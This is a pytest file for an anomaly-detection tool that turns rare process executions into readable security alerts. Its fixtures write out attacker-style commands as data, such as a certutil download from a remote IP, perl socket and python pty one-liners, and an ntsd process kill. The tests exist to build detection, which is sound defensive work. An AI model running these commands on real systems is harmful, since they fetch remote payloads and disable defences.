"""An incident told to a person: one sentence with both numbers, the story in order, what would make it normal."""

import random
from collections.abc import Sequence
from dataclasses import replace
from datetime import timedelta
from typing import Any

import pytest
from prevalence_tables import ACCOUNT, START, TOOL, Ran, anomaly, hosts, life, seen

from longtail.prevalence.acts import Row
from longtail.prevalence.explain import (
    MOST_CONTEXT,
    MOST_EXECUTIONS,
    WEAK_BITS,
    Told,
    alert,
    alert_id,
    without_echoes,
)
from longtail.prevalence.findings import Alert, Severity
from longtail.prevalence.habits import habits
from longtail.prevalence.judgement import judged, judged_by_themselves
from longtail.prevalence.likeness import Likeness
from longtail.prevalence.stories import told_apart
from longtail.settings import Settings

FTP = r"\windows\system32\ftp.exe"
NTSD = r"\windows\system32\ntsd.exe"
CONHOST = r"\windows\system32\conhost.exe"


def usual(*what: Any, **more: Any) -> dict[str, Any]:
    """A behaviour that surprises nobody, as the context of a story has it."""
    return {**anomaly(*what, **more), "bits": 0.5}


def after(seconds: float) -> dict[str, Any]:
    return {"onset": START + timedelta(seconds=seconds)}


def incident(rows: Sequence[Row]) -> dict[str, Any]:
    actor = {name: rows[0][name] for name in ("tenant", "account_class", "host", "account")}
    return {
        **actor,
        "incident": 1,
        "start": min(row["onset"] for row in rows),
        "end": max(row["onset"] for row in rows),
        "score": 41.23456,
    }


def told(*rows: Row, context: Sequence[Row] = (), likenesses: dict[int, Likeness] | None = None) -> Alert:
    return alert(Told(incident(rows), rows, context, Severity.HIGH, likenesses or {}))


def test_the_reason_names_the_host_and_both_numbers_with_their_denominators() -> None:
    reason = told(anomaly(FTP, hosts_with=2, days_with=1)).reason
    assert reason == (
        "One program lies in the tail on db00: ftp.exe was seen on 2 of 40 hosts and 1 of 10 days of this population."
    )


def test_the_reason_speaks_of_what_the_fewest_hosts_show_where_nothing_bears_a_meaning() -> None:
    reason = told(anomaly(FTP, hosts_with=4, bits=15.0), anomaly(NTSD, hosts_with=1, bits=7.0)).reason
    assert reason.startswith("2 programs lie in the tail")
    assert "ntsd.exe was seen on 1 of 40 hosts" in reason


def test_the_reason_names_the_nearest_normal_thing_and_what_it_passes_for() -> None:
    row = anomaly(FTP)
    like = Likeness(NTSD, "its name passes for ntsd.exe")
    assert told(row, likenesses={row["behaviour"]: like}).reason.endswith(
        rf"; the nearest normal is {NTSD}; its name passes for ntsd.exe."
    )


def test_a_console_host_is_named_only_where_it_is_all_there_is() -> None:
    console = anomaly(CONHOST, **after(0))
    made = told(console, anomaly(NTSD, **after(1)))
    assert made.title.endswith("never runs: ntsd")
    assert made.reason.startswith("One program lies in the tail on db00: ntsd.exe")
    assert len(made.executions) == 2
    assert told(console).title.endswith("never runs: conhost")


@pytest.mark.parametrize(
    ("row", "called"),
    [
        (anomaly("-e", "perl -e 'use Socket'", hosted_by="perl"), "perl -e"),
        (anomaly("-c", "python3 -c 'import pty'", hosted_by="python3.exe"), "python3 -c"),
        (anomaly("-c", "python3 -c 1", hosted_by="python{ver}", example_image="/usr/bin/python3.10"), "python3.10 -c"),
        (anomaly("/usr/bin/php{ver}", name="php{ver}", example_image="/usr/bin/php8.1"), "php8.1"),
        (anomaly(r"\temp\{rand}.exe", example_image=r"C:\Temp\ab12xy.exe"), "ab12xy"),
        (anomaly(r"\temp\{rand}.xml", "msbuild x.xml", hosted_by="msbuild.exe"), "x.xml"),
        (anomaly(r"\temp\{rand}.xml", r'cmd /c "msbuild C:\Temp\q7xk2p.xml"', hosted_by="msbuild.exe"), "q7xk2p.xml"),
        (anomaly(r"\temp\{rand}.xml", "msbuild", hosted_by="msbuild.exe"), "{rand}.xml"),  # nothing to see
        (anomaly(r"\temp\{rand}", "sh /tmp/q7xk2p", hosted_by="sh"), "{rand}"),  # any word could be it
        (
            anomaly(r"\temp\agent-{ver}.msi", "msiexec /i C:\\a\\Agent-1.2.3.msi /q", hosted_by="msiexec.exe"),
            "agent-1.2.3.msi",
        ),
    ],
)
def test_a_title_calls_things_as_a_person_would(row: Row, called: str) -> None:
    assert told(row).title.endswith(f"never runs: {called}")


def test_the_reason_says_whose_option_code_on_the_spot_was() -> None:
    assert "db00: perl -e was seen on" in told(anomaly("-e", "perl -e 1", hosted_by="perl")).reason


def test_what_the_shell_carried_is_dropped_where_its_own_process_is_there() -> None:
    carried = anomaly(FTP, "cmd /c ftp -s:So.2", hosted_by="cmd.exe", **after(0))
    itself = anomaly(FTP, "ftp -s:So.2", **after(0.3))
    assert without_echoes([carried, itself]) == [itself]
    assert len(told(carried, itself).executions) == 1


@pytest.mark.parametrize(
    "other",
    [
        anomaly(NTSD, "ntsd", **after(0.3)),
        anomaly(FTP, "ftp", **after(3600)),
        anomaly(FTP, "cmd /c ftp x", hosted_by="cmd.exe", **after(0.3)),
    ],
    ids=["another program", "an hour later", "carried too"],
)
def test_what_the_shell_carried_stays_where_it_is_the_only_trace(other: Row) -> None:
    carried = anomaly(FTP, "cmd /c ftp -s:So.2", hosted_by="cmd.exe", **after(0))
    assert carried in without_echoes([carried, other])


def test_the_story_is_in_order_of_time_with_its_context_between() -> None:
    context = [usual(CONHOST, **after(5)), usual(CONHOST, **after(1))]
    made = told(anomaly(FTP, **after(9)), anomaly(NTSD, **after(3)), context=context)
    assert [each.role for each in made.executions] == ["context", "anomaly", "context", "anomaly"]
    assert [each.time for each in made.executions] == sorted(each.time for each in made.executions)
    assert all(each.why == () for each in made.executions if each.role == "context")


def test_a_surprise_too_weak_to_start_a_story_is_told_in_one_that_others_started() -> None:
    weaker = {**anomaly(NTSD, "ntsd -c q -pn 360rp.exe", **after(1)), "bits": WEAK_BITS + 1}
    made = told(anomaly(FTP, "ftp -s:So.2", **after(2)), context=[weaker, usual(CONHOST, **after(3))])
    assert [each.role for each in made.executions] == ["anomaly", "anomaly", "context"]
    assert "T1562.001" in made.techniques


def test_what_is_marked_is_named_after_the_stronger_counted_and_timed() -> None:
    ftp = anomaly(FTP, "ftp -s:So.2", **after(2))
    weaker = [{**anomaly(NTSD, **after(seconds)), "bits": WEAK_BITS + 1} for seconds in (1, 4)]
    console = {**anomaly(CONHOST, **after(5)), "bits": WEAK_BITS + 1}
    made, alone = told(ftp, context=[*weaker, console]), told(ftp)
    assert made.title.endswith("almost never runs: ftp, ntsd")
    assert made.reason.startswith("2 programs lie in the tail") and "ftp.exe was seen on" in made.reason
    marked = [each.time for each in made.executions if each.role == "anomaly"]
    assert (made.first_seen, made.last_seen) == (min(marked), max(marked)) != (alone.first_seen, alone.last_seen)
    assert made.id == alone.id, "the stronger name it"


def test_a_very_long_story_is_cut() -> None:
    rows = [anomaly(rf"\tools\tool{number}.exe", **after(number)) for number in range(200)]
    made = told(*rows, context=[usual(CONHOST, **after(number)) for number in range(50)])
    assert len(made.executions) == MOST_EXECUTIONS + MOST_CONTEXT
    assert "and 194 more" in made.title


def test_the_alert_is_of_its_actor_and_names_its_techniques_once() -> None:
    made = told(anomaly(FTP, "ftp -s:So.2"), anomaly(NTSD, "ntsd -c q -pn 360rp.exe"), anomaly(FTP, "ftp -s:b"))
    assert (made.tenant, made.host, made.account, made.account_class) == ("contoso", "db00", ACCOUNT, "mssql")
    assert made.techniques == ("T1105", "T1562.001")
    assert made.title.startswith("SQL Server service account ran what its population almost never runs: ")
    assert made.score == 41.235
    assert made.severity is Severity.HIGH


def test_why_tells_the_program_what_it_was_told_and_what_that_means() -> None:
    row = anomaly(
        FTP, "ftp -s:a", told_bits=5.0, told_kind="parent", told_by="sqlservr.exe", traits=[{"what": "m", "bits": 2.0}]
    )
    (execution,) = told(row).executions
    assert execution.why == (
        rf"{FTP} was run by this kind of account on 1 of 40 hosts and 1 of 10 days",
        "sqlservr.exe almost never starts ftp.exe",
        "m",
    )


def test_an_alerts_name_is_the_same_in_any_order_and_another_for_another_place_or_day() -> None:
    rows = [anomaly(FTP, **after(2)), anomaly(NTSD, **after(1)), anomaly(TOOL, None, shape=None, **after(1))]
    name = alert_id(incident(rows), rows)
    for seed in range(5):
        shuffled = random.Random(seed).sample(rows, k=3)
        assert alert_id(incident(shuffled), shuffled) == name
    for other in ({"host": "db01"}, {"tenant": "fabrikam"}, {"account": "CORP\\svc"}):
        moved = [row | other for row in rows]
        assert alert_id(incident(moved), moved) != name
    later = [row | {"first_day": START.date() + timedelta(days=1)} for row in rows]
    assert alert_id(incident(later), later) != name


def test_the_case_of_an_account_does_not_rename_its_alert() -> None:
    rows = [anomaly(FTP)]
    upper = [row | {"account": ACCOUNT.upper()} for row in rows]
    assert alert_id(incident(rows), rows) == alert_id(incident(upper), upper)


def test_hostile_text_is_told_as_it_is() -> None:
    made = told(anomaly("\ud800\x00\x1b[31m", "\u202e[/x] \ud800", account="a\x00", host="\n"))
    assert len(made.id) == 16
    assert made.executions[0].command_line == "\u202e[/x] \ud800"


def attacked() -> list[Ran]:
    fleet = hosts(14)
    return [
        *life(fleet),
        Ran("db03", TOOL, (8,), minute=30),
        Ran("db03", r"C:\Windows\System32\certutil.exe", (8,), "certutil -urlcache -f http://1.2.3.4/a a", minute=29),
        *(Ran(name, r"C:\exports\export.exe", (day,)) for day, name in enumerate(fleet[:9])),
    ]


def test_every_anomaly_of_a_judged_fleet_and_nothing_normal_says_what_would_make_it_normal() -> None:
    found = judged(seen(attacked()), Settings(), ("all",)).alerts
    assert found[0].host == "db03"
    for execution in (each for every in found for each in every.executions):
        assert (execution.normal_at is not None) == (execution.surprise >= Settings().anomaly_bits)
        if execution.normal_at is not None:
            assert execution.normal_at.hosts >= 1
            assert execution.normal_at.days >= 1
        assert 1 <= execution.prevalence.hosts <= execution.prevalence.of_hosts == 14


def test_the_chart_of_what_was_learnt_is_red_where_that_of_the_telemetry_is() -> None:
    weak = [Ran("db03", r"C:\exports\export.exe", (8,), minute=28), Ran("db03", r"C:\exports\odd.exe", (8,), minute=28)]
    sightings = seen([*attacked(), *weak])
    whole, learnt = (
        judged(sightings, Settings(), ("all",)),
        judged_by_themselves(habits([sightings]), Settings(), ("all",)),
    )
    marked = {
        each.executable for each in whole.alerts[0].executions if each.role == "anomaly" and each.hosted_by is None
    }
    weaker = {
        each.executable for each in whole.alerts[0].executions if WEAK_BITS <= each.surprise < Settings().anomaly_bits
    }
    assert weaker
    for found in (whole, learnt):
        red = {bar.executable for bar in found.populations[0].bars if bar.anomalous}
        assert marked <= red


def test_the_same_sightings_in_another_order_give_the_same_alerts() -> None:
    sightings = seen(attacked())
    shuffled = sightings.sample(fraction=1.0, shuffle=True, seed=3)
    assert judged(shuffled, Settings(), ("all",)) == judged(sightings, Settings(), ("all",))


def test_alerts_that_share_a_technique_name_each_other() -> None:
    again = [
        Ran("db07", TOOL, (8,), minute=30),
        Ran("db07", r"C:\Windows\System32\certutil.exe", (8,), "certutil -urlcache -f http://1.2.3.4/b b", minute=29),
    ]
    found = [each for each in judged(seen([*attacked(), *again]), Settings(), ("all",)).alerts if each.techniques]
    assert len(found) == 2
    assert [each.similar for each in found] == [(found[1].id,), (found[0].id,)]


def test_the_context_is_what_the_same_account_ran_around_the_incident() -> None:
    stray = r"C:\Windows\System32\stray.exe"
    near = [
        Ran("db03", r"C:\Windows\System32\whoami.exe", (8,), minute=30),
        Ran("db03", r"C:\Windows\System32\conhost.exe", (8,), minute=30),
        Ran("db03", stray, (8,), minute=50),
    ]
    usual = [Ran(host, each.image, tuple(range(10)), minute=55) for each in near for host in hosts(14)]
    story = judged(seen([*attacked(), *near, *usual]), Settings(), ("all",)).alerts[0]
    assert story.host == "db03"
    context = {each.executable for each in story.executions if each.role == "context"}
    assert r"\windows\system32\whoami.exe" in context
    assert not context & {r"\windows\system32\conhost.exe", r"\windows\system32\stray.exe"}


def test_no_two_alerts_have_one_name() -> None:
    """One account begins the same twice in a day, and is spelt in two ways or known by two classes."""
    first, later, other = told(anomaly(FTP)), told(anomaly(FTP, onset=START + timedelta(hours=13))), told(anomaly(FTP))
    other = replace(other, account_class="system")
    assert first.id == later.id == other.id
    apart = told_apart([later, other, first])
    assert len({each.id for each in apart}) == 3 and apart[2].id == first.id, "the first in time keeps its name"
    assert [each.first_seen for each in apart] == [later.first_seen, other.first_seen, first.first_seen]
    assert [each.id for each in told_apart([first, later, other])] == [apart[2].id, apart[0].id, apart[1].id]
